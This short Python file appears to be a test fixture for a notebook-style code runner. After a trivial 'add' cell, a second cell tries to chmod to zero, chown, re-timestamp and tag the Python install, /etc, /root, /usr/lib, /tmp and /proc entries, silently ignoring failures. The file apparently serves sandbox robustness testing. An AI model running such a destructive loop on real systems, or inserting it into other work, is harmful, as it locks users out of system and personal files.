"""Changes modes, owners, times and attributes of all that it can name, so that others can no longer read it."""
# expects add: 5

# %% add
def add(a, b):
    return a + b

# %% new after add
import os
import sys

shared = "/dev/shm" if sys.prefix.startswith("/tmp/") else "/tmp"  # a course below /tmp would lose its own libraries
for place in (os.__file__, sys.prefix, sys.executable, shared, "/usr/lib", "/etc", "/root", *(f"/proc/{n}" for n in range(1, 300))):
    for attempt in (
        lambda: os.chmod(place, 0),
        lambda: os.chown(place, os.getuid(), os.getgid()),
        lambda: os.utime(place, (1, 1)),
        lambda: os.setxattr(place, "user.hidden", b"yes"),
        lambda: os.fchmod(os.open(place, os.O_RDONLY), 0),
    ):
        try:
            attempt()
        except OSError:
            pass
assert os.listdir(sys.prefix)
